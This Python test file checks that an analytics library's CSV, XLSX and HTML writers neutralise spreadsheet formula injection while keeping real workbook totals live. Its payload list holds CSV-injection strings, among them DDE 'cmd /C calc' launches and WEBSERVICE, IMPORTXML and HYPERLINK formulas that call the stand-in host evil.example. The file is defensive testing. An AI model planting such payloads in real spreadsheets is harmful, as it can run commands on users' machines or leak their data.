"""No name runs in a spreadsheet, whatever the format and however it is opened; and the sums of a workbook do."""

import csv
import io
import re
from decimal import Decimal

import openpyxl
import pytest
from openpyxl.utils.escape import unescape

from analytics.core import document
from analytics.core.frame import Column, Frame
from analytics.core.spreadsheet_text import unescape_formula
from analytics.writers import DOCUMENT_FORMATS, TABLE_FORMATS, document_writer
from analytics.writers import csv as csv_writer
from analytics.writers.csv import Dialect
from tests.support import spreadsheets

STARTS = (
    "=",
    "+",
    "-",
    "@",
    "＝",
    "＋",
    "－",
    "＠",
    "\t=",
    "\n=",
    " =",
    "'=",
    "''=",
    "\u00a0=",
    "|",
    "%",
    "\v=",
    "x;=",
    "x,=",
    "x\t=",
    "x|=",
    "x\n=",
)
BODIES = ("1+1", "SUM(1,2)", 'HYPERLINK("http://evil.example/"&A1,"open")')
KNOWN = (
    "=cmd|'/C calc'!A0",
    "+cmd|'/C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=DDE("cmd";"/C calc";"A0")',
    '=WEBSERVICE("http://evil.example/")',
    '=IMPORTXML("http://evil.example/","//a")',
    '";=1+1;"',
    '",=1+1,"',
    "=1+1\n=2+2",
    "{=1+1}",
    "of:=1+1",
    "-2+3+cmd|' /C calc'!D2",
    "http://evil.example/",
    "mailto:a@evil.example",
    "-5",
    "+1",
    "1e5",
)
PAYLOADS = [start + body for start in STARTS for body in BODIES] + list(KNOWN)
DELIMITERS = (",", ";", "\t", "|")


def laid_out(payloads):
    """A frame with each payload in the first column, in one between numbers and in the last; the first cells of lines matter most."""
    columns = (
        Column("api_key_name", "VARCHAR"),
        Column("computed_cost", "DECIMAL(38,18)"),
        Column("model", "VARCHAR"),
        Column("request_count", "BIGINT"),
        Column("=1+1", "VARCHAR"),
    )
    return Frame("payloads", columns, [(text, Decimal("-5.25"), text, -5, text) for text in payloads])


FRAME = laid_out(PAYLOADS)


@pytest.mark.slow
@spreadsheets.needed
def test_no_text_runs_in_any_spreadsheet(tmp_path):
    """More than 60 payloads in every format that a spreadsheet opens, each read with every delimiter: no formula and no link."""
    assert len(PAYLOADS) >= 60
    for number, delimiter in enumerate(DELIMITERS):
        decimal = "." if delimiter == "," else ","
        (tmp_path / f"dialect-{number}.csv").write_bytes(csv_writer.write(FRAME, Dialect(delimiter, decimal, has_bom=bool(number % 2))))
    texts, book, page = sorted(tmp_path.glob("*.csv")), tmp_path / "book.xlsx", tmp_path / "page.html"
    book.write_bytes(document_writer("xlsx")(document.of(FRAME)))
    page.write_bytes(document_writer("html")(document.of(FRAME)))

    found = [one for delimiter in DELIMITERS for one in spreadsheets.opened(tmp_path, texts, spreadsheets.csv_filter(delimiter)).items()]
    found += spreadsheets.opened(tmp_path, [book]).items()
    found += spreadsheets.opened(tmp_path, [page], "HTML (StarCalc)").items()
    assert {name: (opened.formulas, opened.links) for name, opened in found if opened.formulas or opened.links} == {}
    assert all(opened.texts for _, opened in found)


@pytest.mark.slow
@spreadsheets.needed
def test_the_same_text_would_run_if_it_were_written_plainly(tmp_path):
    """The proof above can fail: without the apostrophes, LibreOffice calculates."""
    plain = tmp_path / "plain.csv"
    plain.write_text("".join(f'"{text}",1\n' for text in ("=1+1", "+1+1", "=SUM(1;2)")), encoding="utf-8")

    assert spreadsheets.opened(tmp_path, [plain], spreadsheets.csv_filter(","))["plain.csv"].formulas


@pytest.mark.parametrize("delimiter", DELIMITERS)
def test_csv_begins_no_cell_with_a_formula(delimiter):
    """Wherever any delimiter would end a cell, what follows does not begin as a formula; every payload comes back as it was."""
    text = csv_writer.write(FRAME, Dialect(delimiter, "." if delimiter == "," else ",")).decode()
    rows = list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter, strict=True))
    assert [[unescape_formula(cell) for cell in (row[0], row[2], row[4])] for row in rows[1:]] == [[payload] * 3 for payload in PAYLOADS]
    texts = [cell for row in rows for cell in (row[0], row[2], row[4])]
    assert [cell for cell in texts if any(re.match(r"\s*[=+@＝＋－＠%|-]", part) for part in re.split(r"[;,|\t\r\n]", cell))] == []
    assert {(row[1][:5], row[3]) for row in rows[1:]} == {("-5.25" if delimiter == "," else "-5,25", "-5")}


def test_a_workbook_holds_text_and_numbers_and_nothing_else():
    """In XLSX every payload is a string that is the payload, numbers are numbers, and there is no link."""
    sheet = openpyxl.load_workbook(io.BytesIO(document_writer("xlsx")(document.of(FRAME)))).worksheets[0]
    rows = list(sheet.iter_rows(min_row=5, max_row=4 + len(PAYLOADS)))

    assert [unescape(row[0].value) for row in rows] == PAYLOADS
    assert {tuple(cell.data_type for cell in row) for row in rows} == {("s", "n", "s", "n", "s")}
    assert {(row[1].value, row[3].value) for row in rows} == {(-5.25, -5)}
    assert not any(cell.hyperlink for row in rows for cell in row)


@pytest.mark.parametrize("name", sorted({*TABLE_FORMATS, *DOCUMENT_FORMATS} - {"pdf"}))
def test_every_writer_takes_every_payload(name):
    """No text breaks a format."""
    assert document_writer(name)(document.of(FRAME))


@spreadsheets.needed
def test_the_sums_of_a_month_pack_are_live_and_all_checks_are_nothing(samples, tmp_path):
    """A spreadsheet that calculates the workbook anew comes to the totals of the statement, and to 0 in every check."""
    path = tmp_path / "pack.xlsx"
    path.write_bytes(document_writer("xlsx")(samples.document("month-pack", month="2026-08")))
    statement = [row for row in samples.report("statement", month="2026-08").records() if row["section"] == "total"]

    formulas = spreadsheets.opened(tmp_path, [path])["pack.xlsx"].formulas

    sums = {round(Decimal(value), 6) for formula, value in formulas.items() if "SUMIFS" in formula}
    assert {round(row["computed_cost"], 6) for row in statement} <= sums
    assert {Decimal(value) for formula, value in formulas.items() if "ROUND" in formula} == {0}
    assert "All checks are 0." in formulas.values()
